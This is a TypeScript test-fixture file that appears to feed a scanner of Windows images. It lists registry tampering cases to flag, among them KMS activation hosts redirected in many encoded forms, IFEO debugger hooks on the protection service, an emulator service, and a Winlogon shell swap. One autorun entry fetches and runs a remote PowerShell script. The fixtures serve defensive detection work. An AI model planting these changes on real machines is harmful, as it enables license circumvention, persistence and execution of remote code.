// Cases that stand in the registry: where an activation is pointed to another host, hooked, or made ready for it.
import type { FakeValue } from '../helpers/fake-image.ts';
import type { CorpusCases } from './case.ts';
import { bytesOf, joined, wide } from './decoys.ts';

const NT = 'Microsoft\\Windows NT\\CurrentVersion';
const SPP = `${NT}\\SoftwareProtectionPlatform`;
const IFEO = `${NT}\\Image File Execution Options`;
const WINDOWS_APP = '55c92734-d682-4d71-983e-d6ec3f16059f';
const OFFICE_APP = '0ff1ce15-a989-479d-af46-f275c6370663';
const SOME_SKU = '73111121-5638-40f6-bc11-f1d7b0d64300';
const NETWORK_SERVICE = '/Windows/ServiceProfiles/NetworkService/NTUSER.DAT' as const;
const SERVICES = 'ControlSet001\\Services';

const debuggerOf = (program: string, line: string) => ({ SOFTWARE: { [`${IFEO}\\${program}`]: { Debugger: line } } });
const host = (name: FakeValue, key = SPP) => ({ SOFTWARE: { [key]: { KeyManagementServiceName: name } } });
const service = (name: string, values: Readonly<Record<string, FakeValue>>) => ({
  SYSTEM: { [`${SERVICES}\\${name}`]: { Type: 0x10, Start: 2, ObjectName: 'LocalSystem', ...values } },
});

export const registryCases: CorpusCases = {
  refused: [
    {
      name: 'a verifier for the activation host',
      rows: ['G1', 'E01'],
      plant: { SOFTWARE: { [`${IFEO}\\SppExtComObj.exe`]: { VerifierDlls: 'wsock64.dll', VerifierFlags: 0x80000000, GlobalFlag: 0x100 } } },
    },
    { name: 'a debugger for the service', rows: ['G1'], plant: debuggerOf('SPPSVC.EXE', 'svchost32.exe') },
    {
      name: 'the same for 32-bit programs, and for Office',
      rows: ['G1'],
      plant: { SOFTWARE: { [`Wow6432Node\\${IFEO}\\osppsvc.exe`]: { VerifierDlls: 'x.dll', GlobalFlag: '0x00000100' } } },
    },
    {
      name: 'a monitor for its silent exit',
      rows: ['G1'],
      plant: {
        SOFTWARE: {
          [`${IFEO}\\sppsvc.exe`]: { GlobalFlag: 0x200 },
          [`${NT}\\SilentProcessExit\\sppsvc.exe`]: { MonitorProcess: 'C:\\Windows\\host32.exe', ReportingMode: 1 },
        },
      },
    },
    ...(
      [
        ['the image itself', '127.0.0.2'],
        ['IPv6', '::1'],
        ['a name with a dot behind it', 'LocalHost.'],
        ['one number', '2130706434'],
        ['hexadecimal', '0x7f000002'],
        ['octal', '0177.0.0.2'],
        ['short', '127.2'],
        ['IPv4 in IPv6', '::ffff:127.0.0.2'],
        ['with a port', '127.0.0.2:1688'],
        ['blanks around it', ' 127.0.0.2 '],
        ['expanded', { type: 'REG_EXPAND_SZ', data: '127.0.0.2' } as const],
        ['as bytes', new Uint8Array(wide('127.0.0.2\0'))],
        ['nowhere', '0.0.0.0'],
      ] as const
    ).map(([how, name]) => ({ name: `an activation host on the machine itself: ${how}`, rows: ['G3'], plant: host(name) })),
    { name: 'a public host', rows: ['G3'], plant: host('kms7.activation-for-free.example.net') },
    { name: 'a bare public address', rows: ['G3'], plant: host('203.0.113.77') },
    {
      name: 'another port of the right host',
      rows: ['G3'],
      plant: { SOFTWARE: { [SPP]: { KeyManagementServiceName: 'kms.corp.example', KeyManagementServicePort: '1689' } } },
    },
    { name: 'for one application', rows: ['G3'], plant: host('10.0.0.10', `${SPP}\\${WINDOWS_APP}`) },
    { name: 'for one product', rows: ['G3'], plant: host('127.0.0.2', `${SPP}\\${WINDOWS_APP}\\${SOME_SKU}`) },
    { name: 'for Office', rows: ['G3'], plant: host('172.16.0.2', `${SPP}\\${OFFICE_APP}`) },
    { name: 'for 32-bit programs', rows: ['G3'], plant: host('10.3.0.1', `Wow6432Node\\${SPP}`) },
    { name: 'for the older Office', rows: ['G3'], plant: host('127.0.0.2', 'Microsoft\\OfficeSoftwareProtectionPlatform') },
    {
      name: 'in the hive of the network service',
      rows: ['G3', 'E41'],
      plant: { hives: { [NETWORK_SERVICE]: { [`Software\\${SPP}\\${WINDOWS_APP}`]: { KeyManagementServiceName: '127.0.0.2' } } } },
    },
    {
      name: 'in the copy of the hive that Windows keeps',
      rows: ['G3', 'E41'],
      plant: {
        hives: {
          '/Windows/System32/config/RegBack/SOFTWARE': {
            [`${SPP}\\${WINDOWS_APP}\\${SOME_SKU}`]: { KeyManagementServiceName: '127.0.0.2' },
          },
        },
      },
    },
    {
      name: 'a service that listens for activations under an innocent name',
      rows: ['G8', 'E01', 'E33'],
      plant: service('WinDefrag', { ImagePath: 'C:\\Windows\\svchost32.exe -D -e -L 0.0.0.0:1688 -P 1688' }),
    },
    {
      name: 'a service with settings of an emulator',
      rows: ['G8'],
      plant: {
        SYSTEM: {
          [`${SERVICES}\\LicenceRelay`]: { Type: 0x10, Start: 2, ImagePath: '%SystemRoot%\\relay.exe', ObjectName: 'LocalSystem' },
          [`${SERVICES}\\LicenceRelay\\Parameters`]: {
            [joined('KMS', 'PID')]: '',
            [joined('KMS', 'Port')]: 1688,
            [joined('KillProcess', 'OnPort')]: 1,
          },
        },
      },
    },
    {
      name: 'the protection service is another program',
      rows: ['G8'],
      plant: { SYSTEM: { [`${SERVICES}\\sppsvc`]: { ImagePath: 'C:\\ProgramData\\sppsvc.exe' } } },
    },
    { name: 'the protection service is switched off', rows: ['G8'], plant: { SYSTEM: { [`${SERVICES}\\sppsvc`]: { Start: 4 } } } },
    {
      name: 'a start of every logon fetches a script',
      rows: ['G17', 'G12', 'E31'],
      plant: {
        SOFTWARE: {
          'Microsoft\\Windows\\CurrentVersion\\Run': { Update: joined('powershell -nop -c "irm https://get.', 'activated', '.win | iex"') },
        },
      },
    },
    {
      name: 'the shell is another program',
      rows: ['G17', 'E31'],
      plant: {
        SOFTWARE: { [`${NT}\\Winlogon`]: { Shell: 'explorer.exe, C:\\ProgramData\\a.cmd' } },
        files: { '/ProgramData/a.cmd': 'cscript slmgr.vbs /skms 203.0.113.77 && cscript slmgr.vbs /ato' },
      },
    },
    { name: 'no rearm at the next seal', rows: ['G18'], plant: { SOFTWARE: { [SPP]: { SkipRearm: 1 } } } },
    {
      name: 'Office was told in the default profile that its heartbeat failed far in the future',
      rows: ['G18', 'E41'],
      plant: {
        hives: {
          '/Users/Default/NTUSER.DAT': {
            'Software\\Microsoft\\Office\\16.0\\Common\\Licensing\\Resiliency': { TimeOfLastHeartbeatFailure: '2040-01-01T00:00:00Z' },
          },
        },
      },
    },
    {
      name: 'an automatic logon with its password',
      rows: ['S'],
      plant: {
        SOFTWARE: { [`${NT}\\Winlogon`]: { AutoAdminLogon: '1', DefaultUserName: 'Administrator', DefaultPassword: 'Decoy-Pa55' } },
      },
    },
    {
      name: 'an automatic logon with its password as a secret of the system',
      rows: ['S'],
      plant: { SECURITY: { 'Policy\\Secrets\\DefaultPassword\\CurrVal': { '': bytesOf('00 00 00 01 44 6f 6e 65') } } },
    },
    {
      name: 'test signing in the boot store',
      rows: ['G16'],
      plant: {
        hives: {
          '/Boot/BCD': {
            'Objects\\{9dea862c-5cdd-4e70-acc1-f32b344d4795}\\Description': { Type: 0x10100002 },
            'Objects\\{11111111-2222-3333-4444-555555555555}\\Description': { Type: 0x10200003 },
            'Objects\\{11111111-2222-3333-4444-555555555555}\\Elements\\12000002': { Element: '\\Windows\\system32\\winload.exe' },
            'Objects\\{11111111-2222-3333-4444-555555555555}\\Elements\\16000049': { Element: bytesOf('01') },
          },
        },
      },
    },
    {
      name: 'Windows was never sealed',
      rows: ['W'],
      plant: { SOFTWARE: { 'Microsoft\\Windows\\CurrentVersion\\Setup\\State': { ImageState: 'IMAGE_STATE_COMPLETE' } } },
    },
    {
      name: 'joined to a domain',
      rows: ['W'],
      plant: {
        SYSTEM: {
          [`${SERVICES}\\Netlogon\\Parameters`]: { JoinDomain: 'corp.example' },
          [`${SERVICES}\\Tcpip\\Parameters`]: { Domain: 'corp.example' },
        },
        SECURITY: { 'Policy\\Secrets\\$MACHINE.ACC\\CurrVal': { '': bytesOf('00 00 00 01') } },
      },
    },
  ],
  honest: [
    { name: 'the right host with a dot and in capitals', rows: ['T05', 'G3'], plant: host('KMS.Corp.Example.') },
    {
      name: 'the right host with its port',
      rows: ['T05', 'G3'],
      plant: { SOFTWARE: { [SPP]: { KeyManagementServiceName: 'kms.corp.example', KeyManagementServicePort: '1688' } } },
    },
    { name: 'the right host for one application', rows: ['T05'], plant: host('kms.corp.example', `${SPP}\\${OFFICE_APP}`) },
    { name: 'another program has a debugger', rows: ['T16', 'G1'], plant: debuggerOf('taskmgr.exe', '"C:\\Tools\\procexp64.exe"') },
    {
      name: 'a verifier for a program of one’s own',
      rows: ['T16'],
      plant: { SOFTWARE: { [`${IFEO}\\ourapp.exe`]: { GlobalFlag: 0x100, VerifierDlls: 'vrfcore.dll' } } },
    },
    {
      name: 'mitigations of Windows itself',
      rows: ['G1'],
      plant: { SOFTWARE: { [`${IFEO}\\sppsvc.exe`]: { MitigationOptions: bytesOf('00 01 00 00 00 00 00 00') } } },
    },
    {
      name: 'no ticket is asked for, as a benchmark of hardening wants it',
      rows: ['T20', 'G18'],
      plant: { SOFTWARE: { 'Policies\\Microsoft\\Windows NT\\CurrentVersion\\Software Protection Platform': { NoGenTicket: 1 } } },
    },
    {
      name: 'a service of a vendor, and one that manages keys of another kind',
      rows: ['T11', 'G8'],
      plant: {
        SYSTEM: {
          [`${SERVICES}\\OpenVPNService`]: {
            Type: 0x10,
            Start: 3,
            ImagePath: '"C:\\Program Files\\OpenVPN\\bin\\openvpnserv.exe"',
            ObjectName: 'LocalSystem',
          },
          [`${SERVICES}\\CloudKms`]: {
            Type: 0x10,
            Start: 3,
            ImagePath: '"C:\\Program Files\\Cloud\\kms.exe" --region eu-1',
            DisplayName: 'Cloud Key Management Agent',
            ObjectName: 'NT AUTHORITY\\LocalService',
          },
        },
      },
    },
    {
      name: 'a start of every logon by a vendor',
      rows: ['G17'],
      plant: {
        SOFTWARE: {
          'Microsoft\\Windows\\CurrentVersion\\Run': {
            SecurityHealth: '%windir%\\system32\\SecurityHealthSystray.exe',
            Sync: '"C:\\Program Files\\Sync\\sync.exe" /background',
          },
        },
      },
    },
    {
      name: 'stock values of the protection platform',
      rows: ['T41', 'G18'],
      plant: { SOFTWARE: { [`${SPP}\\Activation`]: { Manual: 1 } } },
    },
  ],
};
